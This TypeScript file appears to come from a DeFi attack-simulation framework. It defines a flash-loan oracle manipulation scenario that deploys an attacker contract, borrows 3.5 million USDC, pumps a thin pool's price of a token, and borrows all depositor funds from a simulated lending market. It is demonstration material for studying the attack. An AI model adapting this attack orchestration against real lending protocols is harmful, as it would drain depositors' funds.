import { encodeFunctionData } from 'viem'
import { runAbi } from '../abi.ts'
import { accounts } from '../accounts.ts'
import { voltLtvBps } from '../market.ts'
import { lendingDeposits, lendingShortfall } from './holdings.ts'
import { defineScenario } from './scenario.ts'
import { deployAttacker, sendSteps } from './send.ts'

/** USDC base units borrowed for the transaction. */
const borrowed = 3_500_000n * 10n ** 6n

/** The attack of Mango, Cream, Inverse and many more: a market that believes a thin pool's spot price. */
export const oracleManipulation = defineScenario(
  {
    id: 'oracle-manipulation',
    title: 'Flash-loan oracle manipulation',
    story:
      'The lending market prices VOLT by one thin pool. The attacker borrows 3.5 million USDC for a single transaction, ' +
      'buys VOLT until that pool says it is worth more than a hundred dollars, pledges it, and borrows everything that ' +
      'depositors left in the market.',
    victims: ({ addresses: { aave } }) => [aave.pool, aave.usdc.aToken, aave.weth.aToken],
    unit: 'USDC',
    decimals: 6,
    line: 'pending',
  },
  async (market) => {
    const { tokens, aave, v2, v3 } = market.addresses
    const contract = await deployAttacker(market, 'attack contract', market.compiled.OracleManipulation, [
      {
        lender: v3.wethUsdc,
        pair: v2.voltUsdc,
        pool: aave.pool,
        oracle: aave.oracle,
        usdc: tokens.usdc,
        weth: tokens.weth,
        volt: tokens.volt,
        aUsdc: aave.usdc.aToken,
        aWeth: aave.weth.aToken,
        ltv: voltLtvBps,
      },
    ])
    const attackers = [accounts.attacker.address, contract]
    // Deposits are taken once: what people put in or take out afterwards is their business, and no loss.
    const deposits = await lendingDeposits(market)
    return {
      attackers,
      attack: (options) =>
        sendSteps(
          market,
          [
            {
              label: 'manipulate the price of VOLT and borrow the market empty',
              to: contract,
              data: encodeFunctionData({ abi: runAbi, functionName: 'run', args: [borrowed] }),
              gas: 4_000_000n,
            },
          ],
          options,
        ),
      valueAtRisk: async () => deposits - (await lendingShortfall(market, attackers)),
    }
  },
)
